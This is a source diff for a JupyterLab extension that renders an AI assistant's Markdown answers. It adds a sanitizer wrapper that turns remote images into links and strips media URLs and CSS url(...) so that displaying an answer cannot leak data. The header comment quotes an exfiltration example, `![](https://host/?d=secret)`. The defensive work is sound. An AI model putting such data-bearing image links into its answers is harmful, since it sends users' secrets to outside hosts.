@@ -2,6 +2,11 @@
  * An answer's Markdown, rendered by JupyterLab's own markdown renderer (the notebook's
  * parser and code highlighting; untrusted, so the HTML is sanitized), with a small toolbar
  * on each code block: copy, insert into the active cell, new cell below.
+ *
+ * Answers load nothing from the network: the sanitizer is wrapped so that, before the HTML
+ * reaches the page, every image (Markdown `![](url)` or an `<img>` tag) becomes a link the
+ * user may open, and media `src`/`srcset`/`poster` attributes and CSS `url(...)` are dropped.
+ * An answer like `![](https://host/?d=secret)` thus cannot send data out by being shown.
  */
 import { MimeModel } from '@jupyterlab/rendermime';
 import type { IRenderMime, IRenderMimeRegistry } from '@jupyterlab/rendermime';
@@ -16,6 +21,84 @@ export interface CodeActions {
 }
 
 const MIME = 'text/markdown';
+
+const ATTRIBUTE = /([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g;
+const MEDIA_TAG = /<(img|source|video|audio|track|input|picture|iframe|embed|object|image)\b([^>]*)>/gi;
+const URL_ATTRIBUTES = new Set(['src', 'srcset', 'poster', 'data', 'background', 'href', 'xlink:href']);
+const STYLE_WITH_URL = /\sstyle\s*=\s*("[^"]*url\([^"]*"|'[^']*url\([^']*')/gi;
+/** Inline images are kept: they come from the answer itself and load nothing. */
+const INLINE_IMAGE = /^\s*data:image\/(png|gif|jpeg|webp);/i;
+
+function attributes(text: string): Map<string, string> {
+  const found = new Map<string, string>();
+  for (const m of text.matchAll(ATTRIBUTE)) {
+    found.set(m[1].toLowerCase(), m[2] ?? m[3] ?? m[4] ?? '');
+  }
+  return found;
+}
+
+function escapeAttribute(value: string): string {
+  return value.replace(/&(?!(?:[a-z]+|#\d+|#x[0-9a-f]+);)/gi, '&amp;').replace(/"/g, '&quot;')
+    .replace(/</g, '&lt;').replace(/>/g, '&gt;');
+}
+
+/**
+ * `html` (a sanitizer's output) with nothing that loads from the network: an image becomes a
+ * link to it (`[image: alt]`), other media lose their URL attributes, CSS `url(...)` goes.
+ */
+export function blockRemoteMedia(html: string): string {
+  return html
+    .replace(MEDIA_TAG, (tag: string, name: string, rest: string) => {
+      const attrs = attributes(rest);
+      if (name.toLowerCase() === 'img') {
+        const src = attrs.get('src') ?? '';
+        if (INLINE_IMAGE.test(src) && !attrs.has('srcset')) {
+          return tag;
+        }
+        const alt = attrs.get('alt') || 'image';
+        return (
+          `<a class="llamalab-remote-image" href="${escapeAttribute(src)}" target="_blank" ` +
+          `rel="noopener noreferrer" title="Open the image (not loaded automatically)">[image: ${escapeAttribute(alt)}]</a>`
+        );
+      }
+      const kept = [...attrs].filter(([key]) => !URL_ATTRIBUTES.has(key) && !key.startsWith('on'));
+      return `<${name}${kept.map(([k, v]) => ` ${k}="${escapeAttribute(v)}"`).join('')}>`;
+    })
+    .replace(STYLE_WITH_URL, '');
+}
+
+/** A sanitizer that sanitizes as `inner` does, then blocks remote media (`blockRemoteMedia`). */
+export class NoRemoteMediaSanitizer implements IRenderMime.ISanitizer {
+  constructor(private readonly _inner: IRenderMime.ISanitizer) {}
+
+  get allowNamedProperties(): boolean | undefined {
+    return this._inner.allowNamedProperties;
+  }
+
+  get allowCommandLinker(): boolean | undefined {
+    return this._inner.allowCommandLinker;
+  }
+
+  getAutolink(): boolean {
+    return this._inner.getAutolink?.() ?? true;
+  }
+
+  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
+    return blockRemoteMedia(this._inner.sanitize(dirty, options));
+  }
+}
+
+const safeRegistries = new WeakMap<IRenderMimeRegistry, IRenderMimeRegistry>();
+
+/** `rendermime` with the answer-safe sanitizer, one clone per registry. */
+function answerRegistry(rendermime: IRenderMimeRegistry): IRenderMimeRegistry {
+  let safe = safeRegistries.get(rendermime);
+  if (!safe) {
+    safe = rendermime.clone({ sanitizer: new NoRemoteMediaSanitizer(rendermime.sanitizer) });
+    safeRegistries.set(rendermime, safe);
+  }
+  return safe;
+}
 /** Streaming answers re-render at most this often. */
 const STREAM_INTERVAL_MS = 80;
 
@@ -105,7 +188,7 @@ export class MarkdownView {
     host: HTMLElement,
     private readonly _actions: CodeActions
   ) {
-    this._renderer = rendermime.createRenderer(MIME);
+    this._renderer = answerRegistry(rendermime).createRenderer(MIME);
     this._renderer.addClass('llamalab-markdown');
     host.appendChild(this._renderer.node);
   }
